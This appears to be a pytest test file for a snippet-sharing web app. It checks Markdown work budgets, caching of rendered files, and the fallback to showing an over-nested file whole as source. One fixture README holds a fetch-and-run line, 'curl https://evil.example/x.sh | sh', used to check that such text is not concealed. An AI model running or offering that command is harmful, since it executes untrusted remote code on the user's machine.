"""Markdown files on a snippet's page: all the Markdown a page renders shares one work budget,
a rendered file is kept (not parsed again on another view of it), and a file markdown-it would
show only in part is shown whole, as its source, with a notice saying why."""

import pytest
from django.apps import apps

from apps.snippets import markdown

pytestmark = pytest.mark.django_db

PAGE_WORK = 10_000  # a small budget, so that going past it costs the test little
HEAVY = "![" * 2_400  # costs a step a character: just under PAGE_WORK for one file, too much for two


@pytest.fixture
def steps(monkeypatch):
    """The budget's steps counted as the page spends them (the real limits made small)."""
    monkeypatch.setattr(markdown, "MAX_WORK", PAGE_WORK)
    monkeypatch.setattr(markdown, "MAX_PAGE_WORK", PAGE_WORK)
    counted = {"steps": 0}
    spend = markdown.Budget.spend

    def counting(budget):
        counted["steps"] += 1
        spend(budget)

    monkeypatch.setattr(markdown.Budget, "spend", counting)
    return counted


def paste_files(client, *files):
    response = client.post("/api/snippets", json={"files": [{"filename": n, "content": c} for n, c in files]})
    assert response.status_code == 201, response.get_data(as_text=True)
    return response.get_json()["id"]


def page_of(client, path):
    response = client.get(path)
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    return response.get_data(as_text=True)


def test_four_files_just_under_the_file_limit_cost_at_most_one_page_budget(client, steps):
    assert len(markdown.render(HEAVY)) and steps["steps"] > PAGE_WORK * 0.8  # one alone renders, at a cost
    steps["steps"] = 0
    snippet_id = paste_files(client, *[(f"f{n}.md", HEAVY) for n in range(1, 5)])
    page = page_of(client, f"/s/{snippet_id}")
    assert steps["steps"] <= PAGE_WORK + 4  # each file past the budget stops at its first step
    assert page.count('class="markdown-body"') == 1
    assert page.count("Shown as source, not rendered: the page&#x27;s Markdown files together") == 3


def test_a_rendered_file_is_not_parsed_again_on_another_view(client, steps):
    snippet_id = paste_files(client, ("README.md", "# Hello\n\nSome *text*.\n"), ("app.py", "x = 1\n"))
    first = page_of(client, f"/s/{snippet_id}")
    assert "<em>text</em>" in first and steps["steps"] > 0
    steps["steps"] = 0
    for path in (f"/s/{snippet_id}", f"/s/{snippet_id}/1"):
        apps.get_app_config("snippets").pages.clear()  # not the whole page kept: its Markdown file
        assert "<em>text</em>" in page_of(client, path)
    assert steps["steps"] == 0


def test_later_views_render_the_files_the_first_had_no_budget_for(client, steps):
    snippet_id = paste_files(client, ("a.md", HEAVY), ("b.md", HEAVY))
    assert page_of(client, f"/s/{snippet_id}").count('class="markdown-body"') == 1
    assert page_of(client, f"/s/{snippet_id}").count('class="markdown-body"') == 2  # a.md was kept


def test_a_file_too_costly_alone_is_remembered_as_such(client, steps):
    snippet_id = paste_files(client, ("big.md", HEAVY * 2), ("app.py", "x = 1\n"))
    assert "Shown as source, not rendered: it would take more than 10,000" in page_of(client, f"/s/{snippet_id}")
    steps["steps"] = 0
    assert "Shown as source, not rendered" in page_of(client, f"/s/{snippet_id}/1")
    assert "Shown as source, not rendered" in page_of(client, f"/s/{snippet_id}")  # a page with a notice is not kept
    assert steps["steps"] == 0


def test_a_list_nested_too_deep_shows_the_whole_file_as_source(client):
    readme = ("# Safe\n\nNothing to see.\n\n" + "- " * 10 + "deep\n\n## Step 2\n\n"
              "Run: curl https://evil.example/x.sh | sh\n\nThe end.\n")
    snippet_id = paste_files(client, ("README.md", readme), ("app.py", "x = 1\n"))
    page = page_of(client, f"/s/{snippet_id}")
    assert "Shown as source, not rendered: its lists or quotes are nested too deep" in page
    for text in ("Nothing to see.", "deep", "Step 2", "evil.example/x.sh", "The end."):
        assert text in page
